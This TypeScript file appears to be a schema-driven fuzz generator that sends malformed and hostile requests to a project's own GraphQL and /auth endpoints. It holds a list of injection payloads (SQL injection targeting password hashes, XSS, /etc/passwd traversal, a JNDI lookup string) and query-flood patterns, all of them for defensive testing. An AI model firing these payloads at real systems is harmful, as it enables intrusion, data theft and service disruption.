/**
 * A generator of malformed and hostile requests for the router and /auth/*, driven by the public schema so every
 * root field and argument is reached: broken bodies and charsets, syntax errors, token, depth, alias, directive and
 * batch floods, unknown or ambiguous operation names, GET mutations, wrong variable types, huge strings, unicode,
 * injection strings and NUL bytes in every text and id argument. Deterministic for a given seed.
 */
import fs from "node:fs";
import path from "node:path";
import {
  buildSchema,
  getNamedType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isScalarType,
  isLeafType,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLSchema,
} from "graphql";

export interface HostileRequest {
  /** What kind of hostility this is (for the report). */
  kind: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string | Uint8Array;
}

/** Small seeded PRNG (mulberry32): the same seed gives the same requests. */
export function random(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    int: (n: number) => Math.floor(next() * n),
    pick: <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)]!,
    chance: (p: number) => next() < p,
  };
}
type Random = ReturnType<typeof random>;

/** Text meant to break something: NUL bytes, injections, markup, odd unicode, huge values. */
export const HOSTILE_STRINGS: readonly string[] = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\u0000".repeat(64),
  "x".repeat(100_000),
  "'; DROP TABLE auth.accounts; --",
  '" OR "1"="1',
  "' OR 1=1 --",
  "1; SELECT pg_sleep(5)",
  "' UNION SELECT password_hash, email FROM auth.accounts --",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "javascript:alert(1)",
  "../../../../etc/passwd",
  "%00%27%22",
  "${jndi:ldap://example.invalid/a}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "🦄".repeat(500),
  "\u202Eevil\u202C",
  "Z\u0337\u0327\u031Ba\u0338l\u0334g\u0335o\u0336",
  "\ud800",
  "\udfff\ud800",
  "\uFEFF\u200B\u200D",
  "\\",
  "\n\r\t\v\f",
  "null",
  "NaN",
  "-1",
  "9".repeat(400),
  "%s%s%s%n",
  "ＡＤＭＩＮ",
  "a@b",
  "not-a-uuid",
  "00000000-0000-0000-0000-000000000000",
  "ffffffff-ffff-ffff-ffff-ffffffffffff",
  "2026-02-30",
  "9999-99-99T99:99:99Z",
];

const HOSTILE_NUMBERS: readonly unknown[] = [0, -1, -2147483648, 2147483647, 2147483648, 1e308, -1e308, 3.5, "1", null, true, [], {}];
const HOSTILE_BOOLEANS: readonly unknown[] = [true, false, "true", 0, 1, null, "\u0000"];

/** A value for an input type: mostly hostile but type-valid, sometimes of the wrong type altogether. */
function hostileValue(type: GraphQLInputType, rnd: Random, depth = 0): unknown {
  if (rnd.chance(0.06)) return rnd.pick([null, 42, "\u0000", [], { "\u0000": 1 }, true, "x".repeat(10_000)]);
  if (isNonNullType(type)) return hostileValue(type.ofType, rnd, depth);
  if (isListType(type)) {
    if (depth > 3) return [];
    const length = rnd.pick([0, 1, 2, 3, 50, 500]);
    return Array.from({ length }, () => hostileValue(type.ofType, rnd, depth + 1));
  }
  if (isEnumType(type)) {
    const values = type.getValues().map((v) => v.name);
    return rnd.chance(0.5) ? rnd.pick(values) : rnd.pick(["NOT_A_VALUE", "", "\u0000", values[0]?.toLowerCase() ?? "x", 1]);
  }
  if (isInputObjectType(type)) {
    if (depth > 4) return {};
    const value: Record<string, unknown> = {};
    for (const field of Object.values(type.getFields())) {
      if (isNonNullType(field.type) || rnd.chance(0.6)) value[field.name] = hostileValue(field.type, rnd, depth + 1);
    }
    if (rnd.chance(0.1)) value["__proto__unknownField"] = "\u0000";
    return value;
  }
  if (isScalarType(type)) {
    switch (type.name) {
      case "Int":
      case "Float":
        return rnd.pick(HOSTILE_NUMBERS);
      case "Boolean":
        return rnd.pick(HOSTILE_BOOLEANS);
      default:
        // String, ID and custom scalars.
        return rnd.chance(0.1) ? rnd.pick(HOSTILE_NUMBERS) : rnd.pick(HOSTILE_STRINGS);
    }
  }
  return null;
}

function typeString(type: GraphQLInputType): string {
  return String(type);
}

/** The smallest selection for a field's type: nothing for leaves, `__typename` for the rest. */
function selection(field: GraphQLField<unknown, unknown>): string {
  return isLeafType(getNamedType(field.type)) ? "" : " { __typename }";
}

/** GraphQL string literal with escapes (so NUL and control characters travel inside the document itself). */
const literal = (s: string) => JSON.stringify(s);

function fieldOperation(schema: GraphQLSchema, rnd: Random): { query: string; variables: Record<string, unknown>; operationName?: string } {
  const root = rnd.chance(0.55) ? schema.getQueryType()! : schema.getMutationType()!;
  const operation = root === schema.getMutationType() ? "mutation" : "query";
  const fields = Object.values(root.getFields());
  const field = rnd.pick(fields);
  const args = field.args as readonly GraphQLArgument[];
  const variables: Record<string, unknown> = {};
  const declared: string[] = [];
  const passed: string[] = [];
  for (const arg of args) {
    if (!isNonNullType(arg.type) && rnd.chance(0.3)) continue;
    const named = getNamedType(arg.type);
    if (rnd.chance(0.2) && isScalarType(named) && (named.name === "String" || named.name === "ID")) {
      // Inline literal: the hostile text goes through the parser, not the variables.
      passed.push(`${arg.name}: ${literal(rnd.pick(HOSTILE_STRINGS).slice(0, 5000))}`);
      continue;
    }
    const name = `v_${arg.name}`;
    // Sometimes declare the wrong type for the variable (String where an input object is expected, …).
    const declaredType = rnd.chance(0.05) ? "String" : typeString(arg.type);
    declared.push(`$${name}: ${declaredType}`);
    passed.push(`${arg.name}: $${name}`);
    variables[name] = hostileValue(arg.type, rnd);
  }
  const head = declared.length ? `(${declared.join(", ")})` : "";
  const call = passed.length ? `(${passed.join(", ")})` : "";
  const name = `Fuzz${rnd.int(1000)}`;
  return {
    query: `${operation} ${name}${head} { ${field.name}${call}${selection(field)} }`,
    variables,
    operationName: rnd.chance(0.9) ? name : undefined,
  };
}

const json = { "content-type": "application/json" };

function graphqlPost(body: unknown, kind: string, headers: Record<string, string> = json): HostileRequest {
  return { kind, method: "POST", path: "/graphql", headers, body: typeof body === "string" ? body : JSON.stringify(body) };
}

/** Requests that attack the protocol rather than a field: bodies, charsets, limits, operation selection, methods. */
function protocolRequest(rnd: Random): HostileRequest {
  const n = rnd.int(34);
  switch (n) {
    case 0:
      return graphqlPost(rnd.pick(["{", '{"query":', "}", "{'query': 1}", "\u0000", '{"query":"{__typename}"', ""]), "malformed JSON");
    case 1:
      return graphqlPost(rnd.pick(["null", "5", "-0", "true", '"query"', "1e999"]), "non-object JSON");
    case 2:
      return graphqlPost(
        rnd.pick([
          "[]",
          "[{}]",
          JSON.stringify([{ query: "{ __typename }" }, { query: "{ __typename }" }]),
          JSON.stringify(Array.from({ length: 500 }, () => ({ query: "{ __typename }" }))),
        ]),
        "batch",
      );
    case 3:
      return graphqlPost({ query: rnd.pick([5, null, true, [], {}, ""]) }, "query not a string");
    case 4:
      return graphqlPost(
        { query: "query Q($a: String) { __typename }", variables: rnd.pick(["x", 5, [], true, '{"a":1}']) },
        "variables not an object",
      );
    case 5:
      return graphqlPost({ query: "{ __typename }", operationName: rnd.pick([5, [], {}, true]) }, "operationName not a string");
    case 6:
      return graphqlPost(
        {
          query: "{ __typename }",
          extensions: rnd.pick(["x", 5, { persistedQuery: { version: 1, sha256Hash: "0".repeat(64) } }, { persistedQuery: "x" }]),
        },
        "extensions",
      );
    case 7:
      return graphqlPost(
        {
          query: rnd.pick([
            "{ courses(",
            "query {",
            "{ __typename",
            "}}}",
            "mutation",
            "{ a: }",
            "query Q($: Int) { __typename }",
            "\u0000",
            '{ "x" }',
          ]),
        },
        "syntax error",
      );
    case 8:
      return graphqlPost({ query: `{ ${"__typename ".repeat(3000)}}` }, "token flood");
    case 9:
      return graphqlPost(
        { query: `{ ${Array.from({ length: 200 }, (_, i) => `a${i}: __typename`).join(" ")} }` },
        "__typename alias flood",
      );
    case 10:
      return graphqlPost(
        { query: `{ ${Array.from({ length: 60 }, (_, i) => `c${i}: courses { items { id } }`).join(" ")} }` },
        "alias flood",
      );
    case 11:
      return graphqlPost({ query: `{ __typename ${"@skip(if: false) ".repeat(50)}}` }, "directive flood");
    case 12:
      return graphqlPost({ query: `${"{ a ".repeat(300)}${"} ".repeat(300)}` }, "deep nesting");
    case 13:
      return graphqlPost({ query: "fragment A on Query { ...B } fragment B on Query { ...A } { ...A }" }, "fragment cycle");
    case 14:
      return graphqlPost(
        { query: "query A { __typename } query B { __typename }", operationName: rnd.pick(["C", "", undefined, "A B", "\u0000"]) },
        "operation name",
      );
    case 15:
      return graphqlPost(
        { query: "query A { __typename }", operationName: rnd.pick(["B", "", "x".repeat(5000)]) },
        "unknown operation name",
      );
    case 16:
      return {
        kind: "GET mutation",
        method: "GET",
        path: `/graphql?query=${encodeURIComponent(rnd.pick(["mutation { logOut }", "mutation { __typename }", "mutation M { createForumPost(input: {}) { id } }"]))}`,
        headers: { "apollo-require-preflight": "1" },
      };
    case 17:
      return {
        kind: "GET bad parameters",
        method: "GET",
        path: `/graphql?query=${encodeURIComponent("{ __typename }")}&variables=${encodeURIComponent(rnd.pick(["{", "5", "[]", "null"]))}&extensions=${encodeURIComponent(rnd.pick(["{", "x"]))}`,
        headers: { "apollo-require-preflight": "1" },
      };
    case 18:
      return {
        kind: "GET no query",
        method: "GET",
        path: rnd.pick(["/graphql", "/graphql?query=", "/graphql?query=%00", "/graphql?query=1&query=2"]),
        headers: { "apollo-require-preflight": "1", accept: "application/json" },
      };
    case 19:
      return graphqlPost({ query: "{ __typename }" }, "charset", {
        "content-type": `application/json; charset=${rnd.pick(["latin-9", "utf-16", "utf-32", "koi8-r", "binary", "utf-7"])}`,
      });
    case 20:
      return {
        kind: "non-UTF-8 bytes",
        method: "POST",
        path: "/graphql",
        headers: json,
        body: new Uint8Array([0x7b, 0x22, 0x71, 0xff, 0xfe, 0xc3, 0x28, 0x7d]),
      };
    case 21:
      return graphqlPost({ query: "{ __typename }", padding: "x".repeat(5 * 1024 * 1024) }, "oversized body");
    case 22:
      return graphqlPost('{"query":"{ __typename }"}', "content type", {
        "content-type": rnd.pick([
          "text/plain",
          "application/x-www-form-urlencoded",
          "multipart/form-data; boundary=x",
          "application/graphql",
          "application/xml",
          "",
        ]),
      });
    case 23:
      return {
        kind: "content encoding",
        method: "POST",
        path: "/graphql",
        headers: { ...json, "content-encoding": rnd.pick(["gzip", "deflate", "br", "zstd", "x-unknown"]) },
        body: '{"query":"{ __typename }"}',
      };
    case 24:
      return {
        kind: "method",
        method: rnd.pick(["PUT", "DELETE", "PATCH"]),
        path: "/graphql",
        headers: json,
        body: '{"query":"{ __typename }"}',
      };
    case 25:
      return {
        kind: "auth malformed",
        method: "POST",
        path: rnd.pick([
          "/auth/login",
          "/auth/signup",
          "/auth/logout",
          "/auth/verify-email",
          "/auth/password-reset/request",
          "/auth/password-reset/confirm",
          "/auth/password",
        ]),
        headers: json,
        body: rnd.pick(["{", "null", "5", "[]", '"x"', '{"email":']),
      };
    case 26:
      return {
        kind: "auth hostile login",
        method: "POST",
        path: "/auth/login",
        headers: json,
        body: JSON.stringify({
          email: rnd.chance(0.5) ? rnd.pick(HOSTILE_STRINGS) : rnd.pick(HOSTILE_NUMBERS),
          password: rnd.pick(HOSTILE_STRINGS),
        }),
      };
    case 27:
      return {
        kind: "auth hostile sign-up",
        method: "POST",
        path: "/auth/signup",
        headers: json,
        // Never a valid sign-up: the password is always too short or of the wrong type, so nothing may be written.
        body: JSON.stringify({
          purpose: rnd.pick(["learn", "recruit", "admin", "\u0000", 5]),
          recruitRole: rnd.pick(["COMPANY_REPRESENTATIVE", "TALENT_ADMIN", "\u0000"]),
          email: rnd.pick([...HOSTILE_STRINGS, "fuzz@example.com"]),
          password: rnd.pick(["", "short", "\u0000", 12345678, null]),
          firstName: rnd.pick(HOSTILE_STRINGS),
          lastName: rnd.pick(HOSTILE_STRINGS),
        }),
      };
    case 28:
      return {
        kind: "auth oversized",
        method: "POST",
        path: rnd.pick(["/auth/login", "/auth/signup"]),
        headers: json,
        body: JSON.stringify({ email: "x".repeat(200_000), password: "x" }),
      };
    case 29:
      return {
        kind: "auth charset",
        method: "POST",
        path: "/auth/login",
        headers: { "content-type": "application/json; charset=latin-9" },
        body: "{}",
      };
    case 30:
      return {
        kind: "forged session",
        method: "GET",
        path: "/auth/session",
        headers: { cookie: `tf_session=${rnd.pick(["", "x".repeat(4000), "%00", "a;b", "ΩΩ"]).replace(/[^\x20-\x7e]/g, "%")}` },
      };
    case 31:
      return {
        kind: "auth method",
        method: rnd.pick(["GET", "PUT", "DELETE"]),
        path: rnd.pick(["/auth/login", "/auth/signup", "/auth/nothing", "/auth/sessions", "/auth/logout-everywhere"]),
        headers: json,
      };
    case 32:
      return graphqlPost(
        {
          query: "query Q($a: Int!) { courses(page: $a) { items { id } } }",
          variables: { a: rnd.pick(["x", 1.5, 2 ** 40, null, [], {}]) },
        },
        "wrong variable type",
      );
    default:
      return graphqlPost(
        { query: `{ ${"courses { items { id title } } ".repeat(3)}}`, variables: { extra: "\u0000" } },
        "unused variables",
      );
  }
}

/** A type-valid value where every text and id (nested ones too) carries `text`, and the rest is plausible. */
function valueWithText(type: GraphQLInputType, text: string, depth = 0): unknown {
  if (isNonNullType(type)) return valueWithText(type.ofType, text, depth);
  if (isListType(type)) return depth > 3 ? [] : [valueWithText(type.ofType, text, depth + 1)];
  if (isEnumType(type)) return type.getValues()[0]?.name;
  if (isInputObjectType(type)) {
    const value: Record<string, unknown> = {};
    if (depth <= 4) for (const field of Object.values(type.getFields())) value[field.name] = valueWithText(field.type, text, depth + 1);
    return value;
  }
  if (isScalarType(type)) {
    if (type.name === "Int" || type.name === "Float") return 1;
    if (type.name === "Boolean") return true;
    return text;
  }
  return null;
}

/**
 * One request per root field with `text` in every text and id argument (nested input fields included), the rest
 * plausible: so each of them meets, for instance, a NUL byte at least once, whatever the random part picks.
 */
export function everyTextArgument(schema: GraphQLSchema, text: string): HostileRequest[] {
  const requests: HostileRequest[] = [];
  for (const [operation, root] of [
    ["query", schema.getQueryType()],
    ["mutation", schema.getMutationType()],
  ] as const) {
    for (const field of Object.values(root?.getFields() ?? {})) {
      const declared = field.args.map((a) => `$${a.name}: ${typeString(a.type)}`);
      const passed = field.args.map((a) => `${a.name}: $${a.name}`);
      const variables = Object.fromEntries(field.args.map((a) => [a.name, valueWithText(a.type, text)]));
      const query = `${operation} Every${declared.length ? `(${declared.join(", ")})` : ""} { ${field.name}${passed.length ? `(${passed.join(", ")})` : ""}${selection(field)} }`;
      requests.push(graphqlPost({ query, variables, operationName: "Every" }, `every text argument: ${operation}`));
    }
  }
  return requests;
}

export function loadPublicSchema(root: string): GraphQLSchema {
  return buildSchema(fs.readFileSync(path.join(root, "schema", "api.graphql"), "utf8"));
}

/**
 * `count` hostile requests: first every root field with a NUL byte in each text and id argument, then random ones —
 * about a third against the protocol and /auth, the rest against every root field.
 */
export function hostileRequests(schema: GraphQLSchema, count: number, seed = 16): HostileRequest[] {
  const rnd = random(seed);
  const requests: HostileRequest[] = everyTextArgument(schema, "a\u0000b").slice(0, count);
  while (requests.length < count) {
    if (rnd.chance(0.35)) requests.push(protocolRequest(rnd));
    else {
      const op = fieldOperation(schema, rnd);
      requests.push(graphqlPost(op, op.query.startsWith("mutation") ? "field: mutation" : "field: query"));
    }
  }
  return requests;
}
